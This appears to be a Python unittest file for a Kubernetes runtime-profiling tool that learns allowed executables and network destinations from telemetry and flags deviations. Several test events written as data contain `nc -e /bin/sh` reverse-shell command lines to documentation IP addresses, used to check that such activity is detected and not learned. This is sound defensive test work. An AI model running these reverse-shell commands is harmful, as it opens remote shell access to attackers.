#!/usr/bin/env python3
"""learn and check --events: telemetry -> learn -> profile -> judged by the
same runtime rules the controller uses.  The learned profile allows the
events it came from and flags a new executable and a new destination."""
import json
import os
import subprocess
import tempfile
import unittest

BIN = os.environ.get("PROFILEGUARD", "build/src/cmd/profileguard")
# hack/valgrind: every run under memcheck
WRAPPER = os.environ.get("PG_TEST_WRAPPER", "").split()
ROOT = os.environ.get("SOURCE_ROOT", os.path.join(os.path.dirname(__file__), "..", ".."))
DATA = os.path.join(ROOT, "tests", "data", "telemetry")
POD = os.path.join(ROOT, "examples", "manifests", "good", "payments-pod.yaml")
DIGEST = "sha256:682a1c47a1d34030b53d929d93f628b8e80e292b915f8c0e8d8fb51b3b7be968"
# the Deployment whose pods are payments-api-<pod-template-hash>-<suffix>
DEPLOYMENT = f"""apiVersion: apps/v1
kind: Deployment
metadata: {{name: payments-api, namespace: payments}}
spec:
  selector: {{matchLabels: {{app: payments-api}}}}
  template:
    metadata: {{labels: {{app: payments-api}}}}
    spec:
      serviceAccountName: payments-api
      automountServiceAccountToken: false
      securityContext: {{runAsNonRoot: true, runAsUser: 10001}}
      containers:
        - name: api
          image: registry.example.com/payments/api@{DIGEST}
          securityContext: {{allowPrivilegeEscalation: false, capabilities: {{drop: [ALL]}}}}
"""
OWN = "payments-api-7d9fbc6d48-x2kqz"
OWN_CID = "containerd://4f2a6c8e0b1d3f5a7c9e1b3d5f7a9c1e3b5d7f9a1c3e5b7d9f1a3c5e7b9d1f3a"


def run(*args, stdin=None):
    p = subprocess.run([*WRAPPER, BIN, *args], input=stdin, capture_output=True, text=True, timeout=600 if WRAPPER else 60)
    return p.returncode, p.stdout, p.stderr


def native(kind, **kw):
    ev = {"kind": kind, "time": "2026-11-22T11:00:00Z", "node": "node-a",
          "pod": {"namespace": "payments", "name": "payments-api-7d9f-x2"}, "container": "api"}
    ev.update(kw)
    return json.dumps({k: v for k, v in ev.items() if v is not None})


class Learn(unittest.TestCase):
    def setUp(self):
        self.tmp = tempfile.TemporaryDirectory()
        self.dir = self.tmp.name
        # audit events without the stale-token sample: learn cannot allow a stale token
        with open(os.path.join(DATA, "audit.json")) as f:
            audit = json.load(f)
        audit["items"] = [i for i in audit["items"] if "authentication.k8s.io/stale-token" not in i.get("annotations", {})]
        self.audit = self.path("audit.json", json.dumps(audit))
        self.events = [os.path.join(DATA, "native.jsonl"), self.audit, os.path.join(DATA, "falco.json")]
        # The captures in tests/data come from the pod payments-api-7d9f-x2:
        # its manifest is the example pod under that name.
        with open(POD) as f:
            text = f.read()
        self.assertIn("\n  name: payments-api\n", text)
        self.pod = self.path("pod.yaml", text.replace("\n  name: payments-api\n", "\n  name: payments-api-7d9f-x2\n", 1))

    def tearDown(self):
        self.tmp.cleanup()

    def path(self, name, text):
        p = os.path.join(self.dir, name)
        with open(p, "w") as f:
            f.write(text)
        return p

    def learn(self, *extra, events=None, pod=None):
        args = ["learn", "--pod", pod or self.pod, "--name", "payments-api", "--namespace", "payments", "--mode", "Enforce"]
        for e in events or self.events:
            args += ["-f", e]
        return run(*args, *extra)

    def test_round_trip(self):
        rc, profile, err = self.learn()
        self.assertEqual(rc, 0, err)
        prof = self.path("learned.yaml", profile)
        # the learned profile is valid and the pod it came from passes admission
        rc, out, err = run("check", "-p", prof, "-f", POD)
        self.assertEqual(rc, 0, out + err)
        # the events it was learned from are all allowed
        args = ["check", "-p", prof, "-f", POD]
        for e in self.events:
            args += ["--events", e]
        rc, out, err = run(*args)
        self.assertEqual(rc, 0, out + err)
        self.assertIn("0 findings (0 Enforce)", out)
        # a new executable and a new destination are flagged
        new = self.path("new.jsonl", "\n".join([
            native("exec", exe="/usr/bin/nc", args=["-e", "/bin/sh", "203.0.113.9", "4444"]),
            native("connect", daddr="198.51.100.7", dport=443, protocol="tcp"),
            native("connect", daddr="10.96.14.2", dport=5432, protocol="tcp"),   # seen before: fine
        ]) + "\n")
        rc, out, err = run("check", "-p", prof, "-f", POD, "--events", new, "-o", "json")
        self.assertEqual(rc, 1, out + err)
        doc = json.loads(out)
        findings = [f for e in doc["events"] for f in e["findings"]]
        self.assertEqual(sorted(f["reason"] for f in findings), ["UnexpectedEgress", "UnexpectedExecutable"])
        self.assertIn('container "api": exec "/usr/bin/nc" not allowed by payments/payments-api runtime.executables',
                      [f["message"] for f in findings])
        self.assertIn('container "api": connect 198.51.100.7:443/tcp not allowed by payments/payments-api runtime.egress',
                      [f["message"] for f in findings])
        self.assertEqual(doc["summary"]["events"], {"judged": 3, "findings": 2, "enforce": 2, "unattributed": 0})

    def test_profile_content(self):
        rc, profile, err = self.learn()
        self.assertEqual(rc, 0, err)
        for want in ("  name: payments-api\n  namespace: payments\n",
                     "    matchLabels:\n      app: payments-api\n  mode: Enforce\n",
                     "    serviceAccountNames: [payments-api]\n",
                     "    requireDigest: true\n",
                     "      - /app/server\n      - /bin/sh\n      - /usr/bin/curl\n",
                     '      - cidr: "10.96.0.10/32"\n        ports: [53]\n',
                     '      - cidr: "10.96.14.2/32"\n        ports: [5432]\n',
                     "      read:\n        - /etc/ssl/certs/ca-certificates.crt\n      write:\n        - /tmp/cache/session.db\n",
                     "      - verbs: [get]\n        resources: [configmaps]\n        resourceNames: [payments-api-config]\n"):
            self.assertIn(want, profile)
        self.assertNotIn("app.kubernetes.io/version", profile)   # changes every release
        self.assertNotIn("secrets", profile)                      # only in the stale-token sample

    def test_deterministic(self):
        _, a, _ = self.learn()
        _, b, _ = self.learn(events=list(reversed(self.events)))
        self.assertEqual(a, b)

    def test_cidr_aggregation_is_exact(self):
        ev = self.path("net.jsonl", "\n".join(
            [native("connect", daddr=f"10.1.2.{i}", dport=443) for i in range(4)] +
            [native("connect", daddr="10.1.2.4", dport=80),
             native("connect", daddr="10.1.2.5", dport=443),
             native("connect", daddr="fd00::1", dport=8443)]) + "\n")
        rc, profile, err = self.learn(events=[ev])
        self.assertEqual(rc, 0, err)
        self.assertIn('      - cidr: "10.1.2.0/30"\n        ports: [443]\n', profile)
        self.assertIn('      - cidr: "10.1.2.4/32"\n        ports: [80]\n', profile)
        self.assertIn('      - cidr: "10.1.2.5/32"\n        ports: [443]\n', profile)
        self.assertIn('      - cidr: "fd00::1/128"\n        ports: [8443]\n', profile)
        self.assertIn("executables are not profiled", profile)   # no exec seen: not []

    def test_many_ports_are_all_kept(self):
        # 300 ports on two addresses: the port list once lived in a fixed
        # 512-byte string, and past it learn wrote out of bounds.
        ev = self.path("ports.jsonl", "\n".join(
            native("connect", daddr=f"10.9.0.{1 + i % 2}", dport=10000 + i, protocol="tcp")
            for i in range(300)) + "\n")
        rc, profile, err = self.learn(events=[ev])
        self.assertEqual(rc, 0, err)
        for addr, first in (("10.9.0.1", 10000), ("10.9.0.2", 10001)):
            want = ", ".join(str(p) for p in range(first, 10300, 2))
            self.assertIn(f'      - cidr: "{addr}/32"\n        ports: [{want}]\n', profile)
        args = ["check", "-p", self.path("learned.yaml", profile), "-f", POD, "--events", ev]
        rc, out, err = run(*args)
        self.assertEqual(rc, 0, out + err)
        self.assertIn("0 findings (0 Enforce)", out)

    def test_what_no_profile_can_hold(self):
        # A path past the validator's 4,096 bytes is left out, and said so;
        # the profile printed still validates.
        ev = self.path("long.jsonl", native("exec", exe="/app/server") + "\n" +
                       native("exec", exe="/" + "a" * 5000) + "\n")
        rc, profile, err = self.learn(events=[ev])
        self.assertEqual(rc, 0, err)
        self.assertIn("1 events left out: a path or name longer than a profile holds", err)
        self.assertIn("# 1 events left out", profile)
        self.assertIn("      - /app/server\n", profile)
        rc, out, err = run("check", "-p", self.path("p.yaml", profile), "-f", POD)
        self.assertEqual(rc, 0, out + err)
        # More distinct executables than a profile may list: no profile at
        # all, rather than one the validator refuses or one cut short.
        ev = self.path("many.jsonl", "\n".join(native("exec", exe=f"/bin/x{i}") for i in range(4100)) + "\n")
        rc, profile, err = self.learn(events=[ev])
        self.assertEqual(rc, 2)
        self.assertEqual(profile, "")
        self.assertIn("cannot write the profile: 4100 distinct executables seen; a profile holds at most 4096", err)

    def test_bad_lines_still_print_but_exit_2(self):
        ev = self.path("bad.jsonl", native("exec", exe="/app/server") + "\nnot json\n")
        rc, profile, err = self.learn(events=[ev])
        self.assertEqual(rc, 2)
        self.assertIn("1 malformed events record skipped", err)
        self.assertIn("      - /app/server\n", profile)

    def test_other_namespace(self):
        ev = self.path("x.jsonl", native("exec", exe="/app/server") + "\n" +
                       native("exec", exe="/bin/evil", pod={"namespace": "other", "name": "payments-api-7d9f-x2"}) + "\n")
        rc, profile, err = run("learn", "-f", ev, "--pod", self.pod, "--name", "svc", "--namespace", "payments")
        self.assertEqual(rc, 0, err)
        self.assertIn("  mode: Audit\n", profile)
        self.assertIn("      - /app/server\n", profile)
        self.assertNotIn("/bin/evil", profile)
        self.assertIn("1 events used, 1 skipped", err)
        prof = self.path("p.yaml", profile)
        rc, out, err = run("check", "-p", prof, "-f", POD)
        self.assertEqual(rc, 0, out + err)

    def test_refused_without_a_workload(self):
        # Without a manifest nothing says whose events are the workload's:
        # learning from every pod of the namespace is what let another
        # pod's reverse shell into a profile.  Refused, and said why.
        ev = self.path("x.jsonl", native("exec", exe="/app/server") + "\n")
        rc, out, err = run("learn", "-f", ev, "--name", "svc", "--namespace", "payments")
        self.assertEqual((rc, out), (2, ""), err)
        self.assertIn("--pod MANIFEST is required", err)
        rc, out, err = run("learn", "--help")
        self.assertEqual(rc, 0, err)
        self.assertIn("Only events of the workload's own pods count", out + err)

    def test_usage(self):
        rc, _, err = run("learn", "--name", "x")
        self.assertEqual(rc, 2)
        self.assertIn("need -f EVENTS", err)
        rc, _, err = run("learn", "-f", "/nonexistent", "--pod", self.pod, "--name", "x", "--namespace", "payments")
        self.assertEqual(rc, 2)
        self.assertIn("/nonexistent: No such file", err)
        rc, _, err = run("learn", "-f", "-", "--pod", self.pod, "--name", "x", "--namespace", "payments",
                         "--format", "syslog", stdin="")
        self.assertEqual(rc, 2)
        self.assertIn("--format must be", err)
        # what would make the profile's metadata invalid is refused up front
        ev = self.path("x.jsonl", native("exec", exe="/app/server") + "\n")
        for args, want in ((["--name", "x", "--namespace", "auditID"], '--namespace "auditID" is not a valid namespace name'),
                           (["--name", "Bad_Name", "--namespace", "y"], '--name "Bad_Name" is not a valid name'),
                           (["--name", "x", "--namespace", "y", "--service-account", "a b"], '--service-account "a b" is not a valid name')):
            rc, out, err = run("learn", "-f", ev, *args)
            self.assertEqual((rc, out), (2, ""), err)
            self.assertIn(want, err)

    def test_selector_only_from_valid_labels(self):
        # A manifest's labels are not validated on the way in: those the
        # API server would refuse are left out of the selector, and said so.
        pod = self.path("pod.yaml", "apiVersion: v1\nkind: Pod\nmetadata: {name: p, namespace: payments,\n"
                        "  labels: {app: api, 'bad key!': x, tier: 'not a value'}}\n"
                        "spec: {containers: [{name: c, image: 'r.io/a@sha256:" + "a" * 64 + "'}]}\n")
        ev = self.path("x.jsonl", native("exec", exe="/app/server") + "\n")
        rc, profile, err = run("learn", "-f", ev, "--pod", pod, "--name", "svc", "--namespace", "payments")
        self.assertEqual(rc, 0, err)
        self.assertIn("    # 2 pod labels left out: not a valid label key or value\n    matchLabels:\n      app: api\n", profile)
        rc, out, err = run("check", "-p", self.path("p.yaml", profile), "-f", pod)
        self.assertEqual(rc, 0, out + err)
        # With no usable label, the fallback selector is a valid label value
        # even for a name longer than one.
        name = "a" * 60 + ".b" * 10
        bare = self.path("bare.yaml", "apiVersion: v1\nkind: Pod\nmetadata: {name: payments-api-7d9f-x2, namespace: payments}\n"
                         "spec: {containers: [{name: c, image: 'r.io/a@sha256:" + "a" * 64 + "'}]}\n")
        rc, profile, err = run("learn", "-f", ev, "--pod", bare, "--name", name, "--namespace", "payments")
        self.assertEqual(rc, 0, err)
        self.assertIn("      app: " + "a" * 60 + ".b\n", profile)
        rc, out, err = run("check", "-p", self.path("q.yaml", profile), "-f", POD)
        self.assertEqual(rc, 0, out + err)

    # ---- only the workload's own pods (SPEC §6) -------------------------------

    def capture(self):
        """The workload's pod (a Deployment's), another pod of the namespace
        running a reverse shell, a Deployment whose name starts like the
        workload's, and container-ID-only events: one of the workload's own
        container (its short ID), one of a container on another node."""
        return self.path("mixed.jsonl", "\n".join([
            native("exec", exe="/app/server", pod={"namespace": "payments", "name": OWN, "uid": "u-own"},
                   containerID=OWN_CID),
            native("connect", daddr="10.96.14.2", dport=5432, protocol="tcp",
                   pod={"namespace": "payments", "name": OWN}),
            native("exec", exe="/usr/bin/nc", args=["-e", "/bin/sh", "198.51.100.7", "4444"],
                   pod={"namespace": "payments", "name": "payments-worker-5c8d7f9b6d-q7w2m"}),
            native("connect", daddr="198.51.100.7", dport=4444, protocol="tcp",
                   pod={"namespace": "payments", "name": "payments-worker-5c8d7f9b6d-q7w2m"}),
            native("exec", exe="/bin/bash", pod={"namespace": "payments", "name": "payments-api-admin-6b7c8d9f5-zzxx2"}),
            native("exec", exe="/usr/bin/curl", pod=None, node="node-a", containerID=OWN_CID[len("containerd://"):][:12]),
            native("connect", daddr="203.0.113.50", dport=9001, protocol="tcp", pod=None, node="node-b",
                   containerID="containerd://" + "e" * 64),
        ]) + "\n")

    def learn_deployment(self):
        rc, profile, err = self.learn(events=[self.capture()], pod=self.path("deploy.yaml", DEPLOYMENT))
        self.assertEqual(rc, 0, err)
        return profile, err

    def test_other_pods_reverse_shell_is_not_learned(self):
        profile, _ = self.learn_deployment()
        self.assertIn("      - /app/server\n", profile)
        self.assertIn('      - cidr: "10.96.14.2/32"\n        ports: [5432]\n', profile)
        self.assertNotIn("/usr/bin/nc", profile)
        self.assertNotIn("198.51.100.7", profile)
        self.assertNotIn("/bin/bash", profile)        # payments-api-admin is another Deployment
        # and the profile learned flags the reverse shell
        prof = self.path("learned.yaml", profile)
        shell = self.path("shell.jsonl", native("exec", exe="/usr/bin/nc", pod={"namespace": "payments", "name": "payments-api-7d9f-x2"}) + "\n")
        rc, out, err = run("check", "-p", prof, "-f", self.pod, "--events", shell)
        self.assertEqual(rc, 1, out + err)
        self.assertIn('exec "/usr/bin/nc" not allowed', out)

    def test_container_id_only_counts_when_tied(self):
        profile, _ = self.learn_deployment()
        # the short ID of a container an own pod's event named: counted
        self.assertIn("      - /usr/bin/curl\n", profile)
        # a container ID no event of the workload named, from another node: not
        self.assertNotIn("203.0.113.50", profile)
        # a Pod manifest's status ties its containers' IDs
        pod = self.path("own-pod.yaml", "apiVersion: v1\nkind: Pod\nmetadata: {name: p-0, namespace: payments, labels: {app: p}}\n"
                        "spec: {containers: [{name: c, image: 'r.io/a@sha256:" + "a" * 64 + "'}]}\n"
                        "status: {containerStatuses: [{name: c, containerID: '" + OWN_CID + "'}]}\n")
        ev = self.path("cid.jsonl", native("exec", exe="/usr/bin/tini", pod=None, containerID=OWN_CID) + "\n" +
                       native("exec", exe="/usr/bin/nc", pod=None, containerID="containerd://" + "e" * 64) + "\n")
        rc, profile, err = self.learn(events=[ev], pod=pod)
        self.assertEqual(rc, 0, err)
        self.assertIn("      - /usr/bin/tini\n", profile)
        self.assertNotIn("/usr/bin/nc", profile)
        self.assertIn("# skipped: 0 events of other pods, 1 event not tied to this workload\n", profile)

    def test_header_counts_what_was_skipped(self):
        profile, err = self.learn_deployment()
        self.assertIn("# skipped: 3 events of other pods, 1 event not tied to this workload\n", profile)
        self.assertIn("# workload: Deployment payments/payments-api: its pods payments-api-<hash>-<suffix>", profile)
        self.assertIn("3 events used, 4 skipped", err)

    def test_pod_names_each_kind_makes(self):
        # Whose pods a manifest names, kind by kind (what the controllers
        # name them); near misses are other workloads'.
        tmpl = ("  template:\n    metadata: {labels: {app: w}}\n"
                "    spec: {containers: [{name: c, image: 'r.io/a@sha256:" + "a" * 64 + "'}]}\n")
        cases = [
            ("apps/v1", "Deployment", "web", ["web-7d9fbc6d48-x2kqz", "web-5c8d7-q7w2m"],
             ["web-x2kqz", "web-7d9fbc6d48-x2kq", "web-7d9fbc6d48-x2kqa", "web-db-0", "webx-7d9fbc6d48-x2kqz",
              "web-7d9fbc6d48x-x2kqz-q7w2m", "web-7d9fbc6d48-x2kqz-q7w2m"]),
            ("apps/v1", "StatefulSet", "db", ["db-0", "db-12"], ["db-01", "db-x", "db-0-1", "db-", "dbb-0"]),
            ("apps/v1", "DaemonSet", "agent", ["agent-x2kqz"], ["agent-7d9fbc6d48-x2kqz", "agent-x2kq", "agent-0"]),
            ("batch/v1", "Job", "migrate", ["migrate-q7w2m"], ["migrate-q7w2", "migrate-db-q7w2m"]),
            ("batch/v1", "CronJob", "backup", ["backup-29400000-q7w2m"], ["backup-q7w2m", "backup-2940x-q7w2m"]),
            ("apps/v1", "ReplicaSet", "rs", ["rs-x2kqz"], ["rs-7d9fbc6d48-x2kqz"]),
        ]
        for api, kind, name, own, foreign in cases:
            with self.subTest(kind=kind):
                spec = tmpl if kind != "CronJob" else "  schedule: '@daily'\n  jobTemplate:\n    spec:\n" + \
                    "".join("    " + l + "\n" for l in tmpl.splitlines())
                if kind in ("Deployment", "StatefulSet", "DaemonSet", "ReplicaSet"):
                    spec = "  selector: {matchLabels: {app: w}}\n" + spec
                m = self.path(kind + ".yaml", f"apiVersion: {api}\nkind: {kind}\nmetadata: {{name: {name}, namespace: payments}}\nspec:\n{spec}")
                lines = [native("exec", exe=f"/own/{i}", pod={"namespace": "payments", "name": n}) for i, n in enumerate(own)]
                lines += [native("exec", exe=f"/foreign/{i}", pod={"namespace": "payments", "name": n}) for i, n in enumerate(foreign)]
                rc, profile, err = self.learn(events=[self.path(kind + ".jsonl", "\n".join(lines) + "\n")], pod=m)
                self.assertEqual(rc, 0, err)
                for i in range(len(own)):
                    self.assertIn(f"      - /own/{i}\n", profile)
                self.assertNotIn("/foreign/", profile)
                self.assertIn(f"# skipped: {len(foreign)} event{'s' if len(foreign) > 1 else ''} of other pods", profile)

    def test_selector_picks_the_pods_of_a_list(self):
        # kubectl get pods -o yaml: the pods --selector matches are the
        # workload's, by name, UID and the container IDs of their status.
        def pod(name, app, uid, cid):
            return {"apiVersion": "v1", "kind": "Pod",
                    "metadata": {"name": name, "namespace": "payments", "uid": uid, "labels": {"app": app, "pod-template-hash": "7d9fbc6d48"}},
                    "spec": {"serviceAccountName": "api", "containers": [{"name": "c", "image": "r.io/api@sha256:" + "a" * 64}]},
                    "status": {"containerStatuses": [{"name": "c", "containerID": "containerd://" + cid * 64}]}}
        pods = self.path("pods.json", json.dumps({"apiVersion": "v1", "kind": "List", "items": [
            pod("batch-0", "batch", "u-batch", "b"), pod("api-one", "api", "u-1", "c"), pod("api-two", "api", "u-2", "d")]}))
        ev = self.path("sel.jsonl", "\n".join([
            native("exec", exe="/app/one", pod={"namespace": "payments", "name": "api-one"}),
            native("exec", exe="/app/two", pod={"namespace": "payments", "name": "api-two"}),
            native("exec", exe="/usr/bin/tini", pod=None, containerID="containerd://" + "d" * 64),
            native("exec", exe="/usr/bin/uid", pod={"uid": "u-1"}),
            native("exec", exe="/usr/bin/nc", pod={"namespace": "payments", "name": "batch-0"}),
            native("exec", exe="/usr/bin/nc", pod=None, containerID="containerd://" + "b" * 64),
        ]) + "\n")
        rc, profile, err = run("learn", "-f", ev, "--pod", pods, "--selector", "app=api", "--name", "api", "--namespace", "payments")
        self.assertEqual(rc, 0, err)
        for exe in ("/app/one", "/app/two", "/usr/bin/tini", "/usr/bin/uid"):
            self.assertIn(f"      - {exe}\n", profile)
        self.assertNotIn("/usr/bin/nc", profile)
        self.assertIn("  selector:\n    matchLabels:\n      app: api\n", profile)
        self.assertIn("# skipped: 1 event of other pods, 1 event not tied to this workload\n", profile)
        self.assertIn("# workload: 2 objects of ", profile)
        self.assertIn("matching app=api", profile)
        self.assertNotIn("pod-template-hash", profile)   # --selector is the selector, as given
        rc, out, err = run("check", "-p", self.path("p.yaml", profile), "-f", pods)
        self.assertEqual(rc, 0, out + err)

    def test_selector_usage(self):
        ev = self.path("x.jsonl", native("exec", exe="/app/server") + "\n")
        for args, want in ((["--selector", "app=payments-api"], "--pod MANIFEST is required"),
                           (["--pod", self.pod, "--selector", "app"], '--selector "app": not KEY=VALUE[,KEY=VALUE...]'),
                           (["--pod", self.pod, "--selector", "app=a b"], '--selector "app=a b": not KEY=VALUE[,KEY=VALUE...]'),
                           (["--pod", self.pod, "--selector", "app=nope"], "no Pod or pod template whose labels match --selector app=nope")):
            rc, out, err = run("learn", "-f", ev, "--name", "x", "--namespace", "payments", *args)
            self.assertEqual((rc, out), (2, ""), err)
            self.assertIn(want, err)

    def test_manifest_in_another_namespace(self):
        rc, out, err = run("learn", "-f", os.path.join(DATA, "native.jsonl"), "--pod", self.pod, "--name", "x", "--namespace", "shop")
        self.assertEqual((rc, out), (2, ""), err)
        self.assertIn("is in namespace payments, not shop", err)


if __name__ == "__main__":
    unittest.main(verbosity=2)
